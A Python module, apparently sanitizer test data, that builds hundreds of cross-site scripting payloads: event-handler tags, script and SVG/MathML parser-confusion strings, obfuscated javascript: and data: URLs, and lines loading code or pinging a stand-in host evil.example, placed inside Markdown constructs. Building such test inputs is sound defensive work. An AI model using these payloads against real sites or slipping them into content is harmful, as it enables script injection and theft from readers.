"""Texts that try to run a script in a reader's browser, made of what browsers run and what Markdown has.

In each, `RUN` stands for the script.
"""

from itertools import product

RUN = "RUN"

# Elements that run a script by themselves, or when something happens to them.
TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "details",
    "input",
    "marquee",
    "a",
    "div",
    "p",
    "td",
    "math",
    "x",
)
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
SPELLINGS = (
    '<{tag} src=x autofocus tabindex=1 {event}="RUN">x',
    "<{tag}/src=x/{event}=RUN//>x",
    "<{tag}\n{event}\n=\n'RUN'\nsrc=x>x",
    '<{upper} SRC="x" {event}=RUN x="',
)
ELEMENTS = (
    "<script>RUN</script>",
    "<SCRIPT >RUN</SCRIPT >",
    "<script/x>RUN</script/x>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<script src=//evil.example/RUN></script>",
    "<script src='data:text/javascript,RUN'></script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script xlink:href='data:text/javascript,RUN'/></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to='javascript:RUN'><a id=x><text>x</text></a>",
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RUN>'>",
    "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<style><img title='</style><img src=x onerror=RUN>'></style>",
    "<textarea><img title='</textarea><img src=x onerror=RUN>'></textarea>",
    "<title><img title='</title><img src=x onerror=RUN>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<template><img src=x onerror=RUN></template><img src=x onerror=RUN>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<object data='//evil.example/RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<embed src='//evil.example/RUN'>",
    "<form action='javascript:RUN'><input type=submit autofocus></form>",
    "<button formaction='javascript:RUN' form=f>x</button><form id=f></form>",
    "<isindex action='javascript:RUN' type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/RUN'>",
    "<base href='//evil.example/'><img src=RUN>",
    "<link rel=stylesheet href='//evil.example/RUN'>",
    "<style>@import '//evil.example/RUN';</style>",
    "<p style='background:url(//evil.example/RUN)'>x</p>",
    "<p style='animation-name:x' onanimationstart=RUN>x</p><style>@keyframes x{}</style>",
    "<table background='//evil.example/RUN'><tr><td>x</td></tr></table>",
    "<img src='//evil.example/RUN'>",
    "<img srcset='//evil.example/RUN 1x'>",
    "<picture><source srcset='//evil.example/RUN'><img></picture>",
    "<video poster='//evil.example/RUN'></video>",
    "<audio src='//evil.example/RUN' autoplay></audio>",
    "<input type=image src='//evil.example/RUN'>",
    "<a href='javascript:RUN' target=_self>x</a>",
    "<a href='x' ping='//evil.example/RUN'>x</a>",
    "<area href='javascript:RUN'>",
    "<!--><img src=x onerror=RUN>-->",
    "<!--[if true]><img src=x onerror=RUN><![endif]-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><img src=x onerror=RUN>",
    "</p><img src=x onerror=RUN>",
    "\"><img src=x onerror=RUN>",
    "'><img src=x onerror=RUN>",
    "</div></article></body><script>RUN</script>",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "\\<img src=x onerror=RUN\\>",
    "\x00<img src=x onerror=RUN>",
    "\ufeff<img src=x onerror=RUN>",
    "<img\x0csrc=x\x0conerror=RUN>",
    "<ſcript>RUN</ſcript>",
)  # fmt: skip
# Where a text can stand in an article.
PLACES = (
    "{}",
    "> {}",
    "- {}",
    "1. a\n\n   {}",
    "# {}",
    "### {}",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
    "```{}\nx\n```",
    "| a |\n|---|\n| {} |",
    "[{}](https://example.org)",
    "[x](https://example.org '{}')",
    "![{}](/media/x.png)",
    "![x](/media/x.png '{}')",
    "![x]({})",
    "[x]({})",
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "<{}>",
    "::: call-out {}\nx\n:::",
    "::: call-out\n{}\n:::",
    "::: {}\nx\n:::",
    "::: help {}\n:::",
    "::: steps {}\n1. x\n:::",
    "[^{}]",
    "<div>\n{}\n</div>",
    "<p title='\n\n{}\n\n'>",
)
SCHEMES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "blob:RUN",
    "filesystem:RUN",
    "view-source:javascript:RUN",
    "feed:javascript:RUN",
    "//evil.example/RUN",
    "https:evil.example/RUN",
    "/\\evil.example/RUN",
)
ADDRESSES = (
    "{}",
    " {}",
    "\t{}",
    "\x01{}",
    "%0a{}",
    "&#x6A;{}",
    "&Tab;{}",
    "{}&NewLine;",
)
BREAKS = (
    "java\tscript:RUN", "java&#10;script:RUN", "java&Tab;script:RUN", "java\\\nscript:RUN",
    "java%0ascript:RUN",
    "javascript&colon;RUN", "javascript&#x3A;RUN", "javascript\\:RUN", "&#106avascript:RUN",
    "java\u200bscript:RUN", "&#0000106;avascript:RUN", "javascript:/*<!--*/RUN//-->", "javascript://%0aRUN",
    "javascript:%52%55%4e",
)  # fmt: skip
LINKS = (
    "[x]({})", "[x](<{}>)", "[x][r]\n\n[r]: {}", "[x][r]\n\n[r]: <{}>", "![x]({})", "<{}>",
    "<a href='{}'>x</a>", '[x](https://example.org "a\\" onclick=\\"RUN" {})', "[![x]({0})]({0})",
)  # fmt: skip


def texts() -> list[str]:
    """All of them, each once, in one order."""
    elements = [
        spelling.format(tag=tag, upper=tag.upper(), event=event)
        for (tag, event), spelling in zip(product(TAGS, EVENTS), SPELLINGS * 28, strict=True)
    ]
    placed = [place.format(one) for place, one in product(PLACES, ELEMENTS[::3])]
    links = [
        link.format(address.format(scheme))
        for link, address, scheme in product(LINKS, ADDRESSES, SCHEMES[::2])
    ]
    broken = [link.format(one) for link, one in product(LINKS, (*BREAKS, *SCHEMES[1::2]))]
    return list(dict.fromkeys([*elements, *ELEMENTS, *placed, *links, *broken]))
